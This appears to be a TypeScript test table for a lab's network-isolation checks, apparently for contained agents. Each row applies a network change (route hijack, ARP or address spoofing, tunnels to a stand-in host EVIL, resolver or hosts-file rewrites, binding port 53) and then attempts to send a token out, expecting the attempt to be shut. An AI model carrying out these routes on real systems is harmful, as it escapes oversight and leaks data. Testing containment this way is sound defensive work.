import type { TechniqueClass } from "../technique.ts";

const AN_ADDRESS = "a plain network would carry it, as it has a way there already";
const ELSEWHERE = "the lab's container asks the engine's resolver";

const changes = (
  ...rows: [id: string, how: string, change: string, attempt: string, plain?: string][]
): TechniqueClass["rows"] =>
  rows.map(([id, how, change, attempt, plain]) => [
    id,
    how,
    `got = changed(${change}, lambda: ${attempt})`,
    "shut",
    plain ?? AN_ADDRESS,
  ]);

/** The link's own settings, and files that say whom to ask. Each is undone. */
export const configuration: TechniqueClass = {
  name: "a change of its own network",
  judged: "network",
  alone: true,
  rows: [
    ...changes(
      [
        "link-route-gateway",
        "a default route over the gateway",
        "['route', 'replace', '0.0.0.0/1', 'via', GATEWAY]",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-route-bridge",
        "a default route over the bridge",
        "['route', 'replace', '0.0.0.0/1', 'via', BRIDGE, 'onlink', 'dev', 'eth0']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-route-link",
        "a route to everybody on the link",
        "['route', 'replace', '0.0.0.0/1', 'dev', 'eth0']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-route-metadata",
        "a route to the metadata address",
        "['route', 'replace', METADATA, 'via', GATEWAY]",
        "tcp(METADATA, 80, TOKEN)",
      ],
      [
        "link-route-host",
        "a route to the host over the bridge",
        "['route', 'replace', HOSTS[-1], 'via', BRIDGE, 'onlink', 'dev', 'eth0']",
        "udp(HOSTS[-1], HOSTPORT, TOKEN)",
      ],
      [
        "link-route-client",
        "a route to another client over the gateway",
        "['route', 'replace', OTHER_SUBNET, 'via', GATEWAY]",
        "udp(OTHER_AGENT, 8000, TOKEN)",
      ],
      [
        "link-route-outer",
        "a route to the gateway's outer side",
        "['route', 'replace', OUTER_SUBNET, 'via', GATEWAY]",
        "ask(BAD, server=OUTER_HOST)",
      ],
      [
        "link-neighbour",
        "the bridge's address at its MAC address",
        "['neigh', 'replace', BRIDGE, 'lladdr', BRIDGE_MAC, 'dev', 'eth0']",
        "udp(BRIDGE, HOSTPORT, TOKEN)",
      ],
      [
        "link-neighbour-host",
        "the host's address at the bridge's MAC address",
        "['neigh', 'replace', HOSTS[-1], 'lladdr', BRIDGE_MAC, 'dev', 'eth0']",
        "udp(HOSTS[-1], HOSTPORT, TOKEN)",
      ],
      [
        "link-address-gateway",
        "the gateway's address for itself",
        "['address', 'add', GATEWAY + '/32', 'dev', 'eth0']",
        "by(EVERYBODY, ipv4(EVIL, 17, udp_part(EVIL, 53, TOKEN, source=GATEWAY), source=GATEWAY))",
      ],
      [
        "link-address-bridge",
        "the bridge's address for itself",
        "['address', 'add', BRIDGE + '/24', 'dev', 'eth0']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-address-client",
        "another client's address for itself",
        "['address', 'add', OTHER_AGENT + '/24', 'dev', 'eth0']",
        "ask(BAD, server=OTHER_GATEWAY)",
      ],
      [
        "link-mac",
        "the bridge's MAC address for itself",
        "['link', 'set', 'eth0', 'address', '02:de:ad:be:ef:02']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-vlan",
        "an interface in another VLAN",
        "['link', 'add', 'link', 'eth0', 'name', 'x0', 'type', 'vlan', 'id', '10']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-macvlan",
        "an interface with another MAC address",
        "['link', 'add', 'link', 'eth0', 'name', 'x0', 'type', 'macvlan']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-ipip",
        "a tunnel to the gateway",
        "['link', 'add', 'x0', 'type', 'ipip', 'remote', GATEWAY, 'local', AGENT]",
        "by(gateway(), ipv4(GATEWAY, 4, ipv4(EVIL, 17, TOKEN)))",
      ],
      [
        "link-gre",
        "a tunnel to the internet",
        "['link', 'add', 'x0', 'type', 'gre', 'remote', EVIL, 'local', AGENT]",
        "raw(EVIL, 47, b'\\0\\0\\x08\\0' + TOKEN.encode())",
      ],
      [
        "link-vxlan",
        "a VXLAN to the internet",
        "['link', 'add', 'x0', 'type', 'vxlan', 'id', '7', 'remote', EVIL, 'dstport', '4789']",
        "udp(EVIL, 4789, TOKEN)",
      ],
      [
        "link-wireguard",
        "a WireGuard interface",
        "['link', 'add', 'x0', 'type', 'wireguard']",
        "udp(EVIL, 51820, TOKEN)",
      ],
      ["link-namespace", "a network namespace of its own", "['netns', 'add', 'x0']", "udp(EVIL, 9999, TOKEN)"],
      [
        "link-promiscuous",
        "its interface listening to everything",
        "['link', 'set', 'eth0', 'promisc', 'on']",
        "udp(EVIL, 9999, TOKEN)",
      ],
      [
        "link-v6",
        "IPv6 with an address and a route of its own",
        "['-6', 'address', 'add', 'fd00::2/64', 'dev', 'eth0']",
        "(ip('-6', 'route', 'replace', 'default', 'dev', 'eth0'), udp(EVIL6, 53, TOKEN))",
      ],
    ),
    [
      "file-resolv-conf",
      "a resolver of its own in resolv.conf",
      "rewritten('/etc/resolv.conf', f'nameserver {DNS}', lambda: system(BAD))",
      "shut",
      ELSEWHERE,
    ],
    [
      "file-nsswitch",
      "other sources of names in nsswitch.conf",
      "rewritten('/etc/nsswitch.conf', 'hosts: mdns dns', lambda: system(BAD))",
      "shut",
      ELSEWHERE,
    ],
    [
      "file-hosts",
      "an allowed name's address in hosts",
      "rewritten('/etc/hosts', f'{EVIL} {GOOD}', lambda: tls(GOOD, to=EVIL))",
      "shut",
      AN_ADDRESS,
    ],
    [
      "own-port-53",
      "itself in the gateway's place on port 53",
      "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 2, 1); s.bind(('0.0.0.0', 53)); got = ask(BAD)",
      "shut",
      "the port is as good as any there",
    ],
  ],
};
